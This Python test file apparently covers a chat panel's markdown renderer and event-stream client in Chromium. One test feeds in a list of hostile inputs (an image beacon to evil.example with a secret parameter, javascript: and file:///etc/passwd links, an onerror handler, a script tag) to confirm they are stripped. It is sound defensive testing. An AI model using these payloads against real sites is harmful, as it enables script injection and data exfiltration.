"""The panel's modules by themselves, in the browser they are written for: what they draw, and what reaches them."""

from collections.abc import AsyncIterator
from contextlib import AsyncExitStack
from typing import Any

import httpx2
import pytest
import pytest_asyncio
from playwright.async_api import Browser, Page, Route
from starlette.applications import Starlette

from server.web.assets import Assets
from server.web.headers import SecurityHeaders
from tests.chromium import IN_CHROMIUM

pytestmark = IN_CHROMIUM

ORIGIN = "http://127.0.0.1:9"
ASSETS = Assets()

MARKDOWN = """## A heading

Some **bold**, *emphasis*, `code` and a [link](https://example.com/a_(b)).

- one
- two
  - nested **deep**

1. first
2. second

| Campaign | Spend |
| --- | --- |
| Brand \\| search | $1,644.00 |
| PMax | $4,102.50 |

```python
x = "<b>**not bold**"
```

> quoted

The end."""

HOSTILE = """![seen](https://evil.example/pixel.png?d=secret) [go](javascript:alert(1)) [data](data:text/html,x)
[rel](//evil.example) [file](file:///etc/passwd) [bank](https://bank.example@evil.example/)
<img src=x onerror=alert(1)> <script>alert(2)</script>
[Sign in](https://evil.example/login) <https://evil.example/auto>"""

DRAW = """async ([url, source, size]) => {
  const { Markdown } = await import(url);
  const drawn = new Markdown();
  document.body.replaceChildren(drawn.element);
  for (let at = 0; at < source.length; at += size) {
    drawn.push(source.slice(at, at + size));
    if (size < source.length) await new Promise(requestAnimationFrame);
  }
  drawn.end();
  return drawn.element.innerHTML;
}"""


@pytest_asyncio.fixture(loop_scope="session")
async def page(browser: Browser) -> AsyncIterator[Page]:
    """An empty page, and the static files."""
    async with AsyncExitStack() as stack:
        transport = httpx2.ASGITransport(app=SecurityHeaders(Starlette(routes=[ASSETS.route()])))
        client = await stack.enter_async_context(httpx2.AsyncClient(transport=transport, base_url=ORIGIN))
        page = await browser.new_page()
        stack.push_async_callback(page.close)

        async def serve(route: Route) -> None:
            answer = await client.get(route.request.url)
            body = answer.content if answer.status_code == 200 else b"<!doctype html><title>.</title>"
            await route.fulfill(body=body, headers={"content-type": "text/html"} | dict(answer.headers), status=200)

        await page.route(ORIGIN + "/**", serve)
        await page.goto(ORIGIN + "/empty")
        yield page


async def run(page: Page, script: str, module: str, *given: Any) -> Any:
    return await page.evaluate(script, [ASSETS.url(module), *given])


@pytest.mark.parametrize("size", [1, 7])
async def test_an_answer_in_pieces_looks_like_the_same_answer_at_once(page: Page, size: int) -> None:
    whole = await run(page, DRAW, "chat-markdown.js", MARKDOWN, len(MARKDOWN))
    assert await run(page, DRAW, "chat-markdown.js", MARKDOWN, size) == whole
    assert '<td class="n">$4,102.50</td>' in whole
    assert "<ol><li>first</li><li>second</li></ol>" in whole
    assert "&lt;b&gt;**not bold**" in whole


async def test_a_finished_block_is_not_drawn_again(page: Page) -> None:
    script = """async ([url]) => {
      const { Markdown } = await import(url);
      const drawn = new Markdown();
      const frame = () => new Promise(requestAnimationFrame);
      drawn.push("First.\\n\\nSecond");
      await frame();
      const [first] = drawn.element.children;
      drawn.push(" goes on.\\n\\n- a\\n- b\\n\\nThird.");
      await frame();
      drawn.end();
      return [first === drawn.element.firstChild, [...drawn.element.children].map((each) => each.textContent)];
    }"""
    assert await run(page, script, "chat-markdown.js") == [True, ["First.", "Second goes on.", "ab", "Third."]]


async def test_nothing_a_model_writes_loads_runs_or_hides_where_it_leads(page: Page) -> None:
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    await run(page, DRAW, "chat-markdown.js", HOSTILE, len(HOSTILE))

    assert await page.locator("body :is(img, script, iframe, style, [onerror])").count() == 0
    links = await page.locator("a").evaluate_all("each => each.map((a) => [a.href, a.textContent, a.rel])")
    assert links == [
        ["https://evil.example/login", "Sign in (evil.example)", "noopener noreferrer"],
        ["https://evil.example/auto", "https://evil.example/auto", "noopener noreferrer"],
    ]
    assert not [url for url in requested if "evil.example" in url]


@pytest.mark.parametrize("cut", [1, 5, 1000])
async def test_events_are_read_however_they_are_cut(page: Page, cut: int) -> None:
    script = """async ([url, text, cut]) => {
      const { Parser } = await import(url);
      const parser = new Parser();
      const found = [];
      for (let at = 0; at < text.length; at += cut) found.push(...parser.push(text.slice(at, at + cut)));
      return found;
    }"""
    text = (
        ':\n\nid: 1\nevent: text_delta\ndata: {"text": "a: b\\n\\nc"}\n\n:\n\nid: 2\r\nevent: done\r\ndata: {}\r\n\r\n'
    )
    assert await run(page, script, "chat-api.js", text, cut) == [
        {"id": 1, "name": "text_delta", "data": {"text": "a: b\n\nc"}},
        {"id": 2, "name": "done", "data": {}},
    ]


async def test_over_broken_connections_each_event_comes_once_and_in_order(page: Page) -> None:
    started = 'id: 1\nevent: run_started\ndata: {"conversationId": "cnv_1", "runId": "run_1"}\n\n'
    words = 'id: 2\nevent: text_delta\ndata: {"text": "x"}\n\n'
    done = 'id: 3\nevent: done\ndata: {"stopReason": "end_turn"}\n\n'
    answers = [started + words[:20], None, started + words, done]  # cut, refused, overlapping, the rest
    after: list[str] = []

    async def answer(route: Route) -> None:
        after.append(route.request.headers["last-event-id"])
        body = answers.pop(0)
        await (route.abort() if body is None else route.fulfill(body=body, content_type="text/event-stream"))

    await page.route("**/api/v1/chat/cnv_1/events", answer)
    script = """async ([url]) => {
      const { Conversation } = await import(url);
      const events = [], links = [];
      await new Promise((over) => {
        const conversation = new Conversation("cnv_1", {
          event: (name, data, id) => events.push(`${id} ${name}`),
          link: (state) => {
            links.push(state);
            if (state === "reconnecting") queueMicrotask(() => conversation.retry());
          },
          over, refused: over,
        });
        conversation.follow(true);
      });
      return [events, links];
    }"""
    events, links = await run(page, script, "chat-api.js")
    assert events == ["1 run_started", "2 text_delta", "3 done"]
    assert after == ["0", "1", "1", "2"]
    assert "reconnecting" in links
